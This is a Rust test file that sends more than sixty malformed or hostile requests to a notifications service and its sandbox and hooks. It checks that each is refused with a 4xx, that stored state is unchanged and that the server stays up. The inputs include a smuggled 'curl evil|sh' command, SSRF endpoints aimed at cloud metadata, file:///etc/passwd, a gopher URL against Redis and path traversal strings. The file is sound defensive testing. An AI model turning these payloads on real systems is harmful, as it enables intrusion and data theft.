//! More than sixty bad inputs across the API, the sandbox and `/hooks`. Each is answered with a
//! 4xx (naming the field where the input has one), never a 5xx or a dropped connection; stored
//! state (every table, the sandbox) is byte for byte what it was; and the server still answers.

use crate::defects::raw;
use crate::helpers::{Session, TestApp, sandbox, spawn_app};
use crate::state::{fingerprint, first_difference};
use reqwest::{Method, RequestBuilder};
use serde_json::{Value, json};
use std::time::Duration;

/// What a case must be answered with.
enum Expect {
    /// This status, with `field` naming the input at fault.
    Field(u16, &'static str),
    /// This status (inputs without a field: the path, a header, the whole body).
    Status(u16),
    /// Any 4xx (the request may also be cut short by the server, for oversized bodies).
    Refused,
}

struct Case {
    name: String,
    request: Request,
    expect: Expect,
}

enum Request {
    Http(Box<RequestBuilder>),
    Raw(String),
}

/// Everything the cases need: sessions, the sandbox connection, a topic, an inbox.
struct Ctx {
    base: String,
    compartment: String,
    topic: String,
    team: i64,
    hook: String,
}

fn deep_json(depth: usize) -> String {
    format!("{}{}", "[".repeat(depth), "]".repeat(depth))
}

fn cases(app: &TestApp, admin: &Session, ctx: &Ctx) -> Vec<Case> {
    let mut cases = Vec::new();
    let Ctx { base, compartment, topic, team, hook } = ctx;
    let mut add = |name: &str, request: RequestBuilder, expect: Expect| {
        cases.push(Case { name: name.to_owned(), request: Request::Http(Box::new(request)), expect });
    };
    let post = |path: &str, body: Value| admin.send(Method::POST, path).json(&body);
    let topics = format!("{base}/topics");
    let rules = format!("{base}/rules");
    let subscriptions = format!("{base}/topics/{topic}/subscriptions");
    let topic_body = |name: Value| json!({"compartment_id": compartment, "name": name});
    let rule_body = |name: &str, condition: &str| {
        json!({
            "compartment_id": compartment, "name": name, "condition": condition,
            "actions": [{"kind": "ONS", "target_id": topic}],
        })
    };
    let condition = r#"{"eventType":["com.oraclecloud.objectstorage.createbucket"]}"#;

    // Topics: names, types, shapes.
    add("topic name with a line break", post(&topics, topic_body(json!("a\nb"))), Expect::Field(400, "name"));
    add("topic name of 300 characters", post(&topics, topic_body(json!("n".repeat(300)))), Expect::Field(400, "name"));
    add("topic name with a bidi override", post(&topics, topic_body(json!("a\u{202e}b"))), Expect::Field(400, "name"));
    add("topic name empty", post(&topics, topic_body(json!(""))), Expect::Field(400, "name"));
    add("topic name a number", post(&topics, topic_body(json!(42))), Expect::Field(400, "name"));
    add("topic name null", post(&topics, topic_body(Value::Null)), Expect::Field(400, "name"));
    add("topic without a name", post(&topics, json!({"compartment_id": compartment})), Expect::Field(400, "name"));
    add(
        "topic compartment not an OCID",
        post(&topics, json!({"compartment_id": "../../etc", "name": "ok-name"})),
        Expect::Field(400, "compartment_id"),
    );
    add(
        "topic description with a NUL",
        post(&topics, json!({"compartment_id": compartment, "name": "ok-name", "description": "a\u{0}b"})),
        Expect::Field(400, "description"),
    );
    add(
        "topic description of 2000 characters",
        post(&topics, json!({"compartment_id": compartment, "name": "ok-name", "description": "d".repeat(2000)})),
        Expect::Field(400, "description"),
    );
    add(
        "topic with duplicate keys",
        admin
            .send(Method::POST, &topics)
            .header("content-type", "application/json")
            .body(format!(r#"{{"compartment_id":"{compartment}","name":"a","name":"b"}}"#)),
        Expect::Field(400, "name"),
    );
    add(
        "body nested 100,000 deep",
        admin.send(Method::POST, &topics).header("content-type", "application/json").body(deep_json(100_000)),
        Expect::Status(400),
    );
    add(
        "body not JSON",
        admin.send(Method::POST, &topics).header("content-type", "application/json").body("{not json"),
        Expect::Field(400, "body"),
    );
    add(
        "body invalid UTF-8",
        admin.send(Method::POST, &topics).header("content-type", "application/json").body(vec![b'{', 0xff, 0xfe, b'}']),
        Expect::Status(400),
    );
    add(
        "body with a byte-order mark",
        admin.send(Method::POST, &topics).header("content-type", "application/json").body("\u{feff}{}"),
        Expect::Status(400),
    );
    add(
        "body as a form",
        admin.send(Method::POST, &topics).header("content-type", "application/x-www-form-urlencoded").body("name=x"),
        Expect::Field(400, "body"),
    );
    add(
        "body as text",
        admin.send(Method::POST, &topics).header("content-type", "text/plain").body("{}"),
        Expect::Field(400, "body"),
    );
    add(
        "body of 2 MiB",
        admin.send(Method::POST, &topics).header("content-type", "application/json").body(vec![b' '; 2 * 1024 * 1024]),
        Expect::Refused,
    );
    add("body an array", post(&topics, json!([1, 2, 3])), Expect::Status(400));
    add(
        "state change without the CSRF token",
        admin.client.post(app.url(&topics)).json(&topic_body(json!("no-csrf"))),
        Expect::Status(403),
    );

    // Rules.
    add(
        "rule name with a line break",
        post(&rules, rule_body("x\ncurl evil|sh", condition)),
        Expect::Field(400, "name"),
    );
    add("rule name with a C1 control", post(&rules, rule_body("x\u{85}y", condition)), Expect::Field(400, "name"));
    add("rule condition not JSON", post(&rules, rule_body("ok", "{eventType")), Expect::Field(400, "condition"));
    add("rule condition in HCL", post(&rules, rule_body("ok", "eventType = \"x\"")), Expect::Field(400, "condition"));
    add(
        "rule condition nested 10,000 deep",
        post(&rules, rule_body("ok", &format!("{}{}", "{\"a\":".repeat(10_000), "}".repeat(10_000)))),
        Expect::Field(400, "condition"),
    );
    add(
        "rule condition of 100 KB",
        post(&rules, rule_body("ok", &format!("{{\"eventType\":[\"{}\"]}}", "e".repeat(100_000)))),
        Expect::Field(400, "condition"),
    );
    add(
        "rule without actions",
        post(&rules, json!({"compartment_id": compartment, "name": "ok", "condition": condition, "actions": []})),
        Expect::Field(400, "actions"),
    );
    add(
        "rule with eleven actions",
        post(
            &rules,
            json!({"compartment_id": compartment, "name": "ok", "condition": condition,
                   "actions": vec![json!({"kind": "ONS", "target_id": topic}); 11]}),
        ),
        Expect::Field(400, "actions"),
    );
    add(
        "rule action of an unknown kind",
        post(
            &rules,
            json!({"compartment_id": compartment, "name": "ok", "condition": condition,
                   "actions": [{"kind": "SHELL", "target_id": topic}]}),
        ),
        Expect::Field(400, "actions[0].kind"),
    );
    add(
        "rule action targeting a rule",
        post(
            &rules,
            json!({"compartment_id": compartment, "name": "ok", "condition": condition,
                   "actions": [{"kind": "ONS", "target_id": "ocid1.eventrule.oc1..x"}]}),
        ),
        Expect::Field(400, "actions[0].target_id"),
    );
    add(
        "rule enabled as a string",
        post(
            &rules,
            json!({"compartment_id": compartment, "name": "ok", "condition": condition, "is_enabled": "yes",
                   "actions": [{"kind": "ONS", "target_id": topic}]}),
        ),
        Expect::Field(400, "is_enabled"),
    );

    // Subscriptions: the egress policy and the per-protocol checks.
    let subscribe =
        |protocol: &str, endpoint: &str| post(&subscriptions, json!({"protocol": protocol, "endpoint": endpoint}));
    for (name, endpoint) in [
        ("endpoint: the metadata service", "https://169.254.169.254/latest/"),
        ("endpoint: mapped IPv6 metadata", "https://[::ffff:169.254.169.254]/"),
        ("endpoint: decimal metadata", "https://2852039166/"),
        ("endpoint: octal metadata", "https://0251.0376.0251.0376/"),
        ("endpoint: hex metadata", "https://0xa9fea9fe/"),
        ("endpoint: link-local IPv6", "https://[fe80::1]/"),
        ("endpoint: a private address", "https://10.1.2.3/hook"),
        ("endpoint: unspecified", "https://0.0.0.0/hook"),
        ("endpoint: plain http elsewhere", "http://example.com/hook"),
        ("endpoint: a file URL", "file:///etc/passwd"),
        ("endpoint: gopher", "gopher://127.0.0.1:6379/_INFO"),
        ("endpoint with a line break", "https://a.example/\nx"),
        ("endpoint empty", ""),
        ("endpoint of 600 characters", &format!("https://a.example/{}", "p".repeat(600))),
    ] {
        add(name, subscribe("CUSTOM_HTTPS", endpoint), Expect::Field(400, "endpoint"));
    }
    add("e-mail endpoint not an address", subscribe("EMAIL", "not-an-address"), Expect::Field(400, "endpoint"));
    add("SMS endpoint not a number", subscribe("SMS", "+1-call-me"), Expect::Field(400, "endpoint"));
    add("protocol unknown", subscribe("GOPHER", "https://a.example/"), Expect::Field(400, "protocol"));
    add(
        "Basic user name with a colon",
        post(
            &subscriptions,
            json!({"protocol": "CUSTOM_HTTPS", "endpoint": "https://a.example/h", "basic_auth": {"username": "a:b", "password": "p"}}),
        ),
        Expect::Field(400, "basic_auth.username"),
    );

    // Path tricks: ids of the wrong kind or shape.
    add("topic id not an OCID", admin.get(&format!("{base}/topics/..%2F..%2Fusers")), Expect::Field(400, "topic_id"));
    add("rule id of a topic", admin.get(&format!("{base}/rules/{topic}")), Expect::Field(400, "rule_id"));
    add(
        "connection id not a number",
        admin.get(&format!("/api/v1/teams/{team}/connections/abc/topics")),
        Expect::Field(400, "connection_id"),
    );
    add(
        "connection id overflowing",
        admin.get(&format!("/api/v1/teams/{team}/connections/99999999999999999999999/topics")),
        Expect::Field(400, "connection_id"),
    );
    add("team id not a number", admin.get("/api/v1/teams/x/connections"), Expect::Field(400, "team_id"));
    add("team id negative", admin.get("/api/v1/teams/-1/connections"), Expect::Status(403));
    add(
        "user id with unicode",
        admin.send(Method::PATCH, "/api/v1/users/%E2%80%AE1").json(&json!({})),
        Expect::Field(400, "user_id"),
    );

    // Queries.
    add("audit limit not a number", admin.get("/api/v1/audit?limit=lots"), Expect::Field(400, "limit"));
    add("audit limit negative", admin.get("/api/v1/audit?limit=-5"), Expect::Field(400, "limit"));
    add("audit limit huge", admin.get("/api/v1/audit?limit=1000000000"), Expect::Field(400, "limit"));
    add("audit before not a number", admin.get("/api/v1/audit?before=yesterday"), Expect::Field(400, "before"));
    add("audit from not a date", admin.get("/api/v1/audit?from=last%20week"), Expect::Field(400, "from"));
    add("audit export in XML", admin.get("/api/v1/audit/export?format=xml"), Expect::Field(400, "format"));
    add(
        "cloud audit window of a year",
        admin.get(&format!("{base}/cloud-audit?compartment_id={compartment}&from=2025-01-01&to=2026-01-01")),
        Expect::Field(400, "from"),
    );
    add("topic list without a compartment", admin.get(&topics), Expect::Field(400, "compartment_id"));

    // Accounts, teams, tokens, connections, templates, inboxes.
    add("team name with a tab", post("/api/v1/teams", json!({"name": "a\tb"})), Expect::Field(400, "name"));
    add(
        "user with a bidi display name",
        post(
            "/api/v1/users",
            json!({"username": "bidi", "password": "long enough password", "display_name": "\u{202e}nimda"}),
        ),
        Expect::Field(400, "display_name"),
    );
    add(
        "user name of 1,000 characters",
        post("/api/v1/users", json!({"username": "u".repeat(1000), "password": "long enough password"})),
        Expect::Field(400, "username"),
    );
    add(
        "user password of 10 KB",
        post("/api/v1/users", json!({"username": "longpass", "password": "p".repeat(10_000)})),
        Expect::Field(400, "password"),
    );
    add(
        "token name with a line break",
        post("/api/v1/tokens", json!({"name": "a\nb", "team_id": team, "role": "viewer"})),
        Expect::Field(400, "name"),
    );
    add(
        "token for a team id as text",
        post("/api/v1/tokens", json!({"name": "t", "team_id": "1", "role": "viewer"})),
        Expect::Field(400, "team_id"),
    );
    add(
        "token with an unknown role",
        post("/api/v1/tokens", json!({"name": "t", "team_id": team, "role": "root"})),
        Expect::Field(400, "role"),
    );
    let connections = format!("/api/v1/teams/{team}/connections");
    let mut connection = crate::helpers::by_fields("x\ny");
    add("connection name with a line break", post(&connections, connection.clone()), Expect::Field(400, "name"));
    connection["name"] = json!("garbage-key");
    connection["private_key"] = json!("-----BEGIN PRIVATE KEY-----\nAAAA\n-----END PRIVATE KEY-----\n");
    add("connection with a garbage key", post(&connections, connection.clone()), Expect::Field(400, "private_key"));
    connection["private_key"] = json!("x".repeat(500_000));
    add("connection with 500 KB of non-PEM", post(&connections, connection), Expect::Field(400, "private_key"));
    add(
        "connection from a config file without the profile",
        post(
            &connections,
            json!({"name": "cfg", "source": {"from": "config_file", "config": "[DEFAULT]\nuser=x\n", "profile": "MISSING"}, "private_key": "k"}),
        ),
        Expect::Refused,
    );
    let templates = format!("/api/v1/teams/{team}/templates");
    add(
        "template document nested 50,000 deep",
        admin
            .send(Method::POST, &templates)
            .header("content-type", "application/json")
            .body(format!(r#"{{"source":{{"document":{}}}}}"#, deep_json(50_000))),
        Expect::Status(400),
    );
    add(
        "template name with a line break",
        post(
            &templates,
            json!({"source": {"document": {"format": "signalbox/template@1", "name": "a\nb", "topics": [{"key": "t", "name": "t1"}]}}}),
        ),
        Expect::Refused,
    );
    add(
        "inbox name with a line separator",
        post(&format!("/api/v1/teams/{team}/inboxes"), json!({"name": "a\u{2028}b"})),
        Expect::Field(400, "name"),
    );

    // Login.
    add(
        "login name of 10,000 characters",
        app.client.post(app.url("/api/v1/auth/login")).json(&json!({"username": "a".repeat(10_000), "password": "x"})),
        Expect::Field(400, "username"),
    );
    add(
        "login password of 100 KB",
        app.client
            .post(app.url("/api/v1/auth/login"))
            .json(&json!({"username": "admin", "password": "p".repeat(100_000)})),
        Expect::Field(400, "password"),
    );
    add(
        "login with a number for a name",
        app.client.post(app.url("/api/v1/auth/login")).json(&json!({"username": 7, "password": "x"})),
        Expect::Field(400, "username"),
    );
    add(
        "bearer token of 100 KB",
        app.client.get(app.url("/api/v1/auth/me")).bearer_auth("sbx_".to_owned() + &"a".repeat(100_000)),
        Expect::Refused,
    );
    add(
        "bearer token malformed",
        app.client.get(app.url("/api/v1/auth/me")).header("authorization", "Bearer sbx_!!"),
        Expect::Status(401),
    );

    // The sandbox, unsigned or badly signed.
    let sandbox_topics = app.url("/oci-sandbox/20181201/topics");
    add("sandbox: unsigned create", app.client.post(&sandbox_topics).json(&json!({"name": "x"})), Expect::Status(401));
    add(
        "sandbox: forged signature",
        app.client.get(format!("{sandbox_topics}?compartmentId={compartment}")).header(
            "authorization",
            r#"Signature version="1",keyId="ocid1.tenancy.oc1..aaaaaaaasignalboxsandbox/ocid1.user.oc1..u/aa:bb",algorithm="rsa-sha256",headers="date (request-target) host",signature="AAAA""#,
        )
        .header("date", httpdate::fmt_http_date(std::time::SystemTime::now())),
        Expect::Status(401),
    );
    add(
        "sandbox: another tenancy's keyId",
        app.client.get(format!("{sandbox_topics}?compartmentId={compartment}")).header(
            "authorization",
            r#"Signature version="1",keyId="ocid1.tenancy.oc1..aaaaaaaasignalboxteam2/u/f",algorithm="rsa-sha256",headers="date",signature="AAAA""#,
        ),
        Expect::Status(401),
    );
    add(
        "sandbox: 2 MiB unsigned body",
        app.client.post(&sandbox_topics).body(vec![b'x'; 2 * 1024 * 1024]),
        Expect::Refused,
    );
    add(
        "sandbox: confirmation with a wrong token",
        app.client
            .get(app.url("/oci-sandbox/20181201/subscriptions/ocid1.onssubscription.oc1..x/confirmation?token=guess")),
        Expect::Refused,
    );

    // Hooks.
    add("hook: a short token", app.client.post(app.url("/hooks/short")).body("{}"), Expect::Status(404));
    add(
        "hook: an unknown token",
        app.client.post(app.url(&format!("/hooks/{}", "A".repeat(43)))).body("{}"),
        Expect::Status(404),
    );
    add("hook: 300 KiB", app.client.post(app.url(hook)).body(vec![b'x'; 300 * 1024]), Expect::Refused);
    add("hook: GET", app.client.get(app.url(hook)), Expect::Status(405));

    // Raw requests the HTTP client would clean up.
    let raw_cases = [
        ("raw: dot segments to the users list", "GET /api/v1/teams/1/../../users HTTP/1.1\r\nHost: x\r\n\r\n"),
        ("raw: encoded dot segments", "GET /api/v1/teams/%2e%2e/users HTTP/1.1\r\nHost: x\r\n\r\n"),
        (
            "raw: hooks path escaping to the API",
            "POST /hooks/../api/v1/teams HTTP/1.1\r\nHost: x\r\nContent-Length: 2\r\n\r\n{}",
        ),
        (
            "raw: 50 MB declared to the API",
            "POST /api/v1/teams HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 52428800\r\n\r\n{",
        ),
        ("raw: a header of 64 KiB", "GET /api/v1/auth/me HTTP/1.1\r\nHost: x\r\nX-Big: BIG\r\n\r\n"),
    ];
    for (name, request) in raw_cases {
        let request = request.replace("BIG", &"b".repeat(64 * 1024));
        cases.push(Case { name: name.to_owned(), request: Request::Raw(request), expect: Expect::Refused });
    }
    cases
}

/// Every case is refused as expected, changes nothing, and the server keeps answering.
#[tokio::test]
async fn bad_inputs_are_refused_naming_the_field_and_change_nothing() {
    let app = spawn_app().await;
    let admin = app.admin().await;
    let team = admin.me.teams[0].team_id;
    let (base, compartment) = sandbox(&admin).await;
    let topic: Value = admin
        .call(Method::POST, &format!("{base}/topics"), json!({"compartment_id": compartment, "name": "catalogue"}))
        .await
        .1;
    let inbox: Value =
        admin.call(Method::POST, &format!("/api/v1/teams/{team}/inboxes"), json!({"name": "catalogue"})).await.1;
    let hook =
        inbox["url"].as_str().expect("url").split("/hooks/").nth(1).map(|t| format!("/hooks/{t}")).expect("a hook");
    let ctx = Ctx { base, compartment, topic: topic["id"].as_str().expect("a topic").to_owned(), team, hook };
    // Let the background work of setting up settle before the baseline.
    tokio::time::sleep(Duration::from_millis(300)).await;
    let before = fingerprint(&app).await;

    let cases = cases(&app, &admin, &ctx);
    assert!(cases.len() >= 60, "{} cases", cases.len());
    let mut problems = Vec::new();
    for case in cases {
        let (status, body) = match case.request {
            Request::Http(request) => match request.send().await {
                Ok(response) => {
                    let status = response.status().as_u16();
                    (Some(status), response.json::<Value>().await.unwrap_or(Value::Null))
                }
                // An oversized body may be refused before it is all sent.
                Err(_) => (None, Value::Null),
            },
            Request::Raw(text) => {
                let head = raw(&app, &text).await;
                let status = head.split_whitespace().nth(1).and_then(|s| s.parse::<u16>().ok());
                (status, Value::Null)
            }
        };
        let ok = match (&case.expect, status) {
            (Expect::Field(want, field), Some(got)) => got == *want && body["field"] == *field,
            (Expect::Status(want), Some(got)) => got == *want,
            (Expect::Refused, Some(got)) => (400..500).contains(&got),
            (Expect::Refused, None) => true,
            (_, None) => false,
        };
        if !ok {
            problems.push(format!("{}: got {status:?} {body}", case.name));
        }
        let alive = app.client.get(app.url("/healthz")).send().await;
        if !alive.is_ok_and(|r| r.status() == 200) {
            problems.push(format!("{}: the server stopped answering", case.name));
        }
    }
    let after = fingerprint(&app).await;
    assert!(problems.is_empty(), "{} cases went wrong:\n{}", problems.len(), problems.join("\n"));
    assert!(before == after, "a refused request changed stored state:\n{}", first_difference(&before, &after));
}
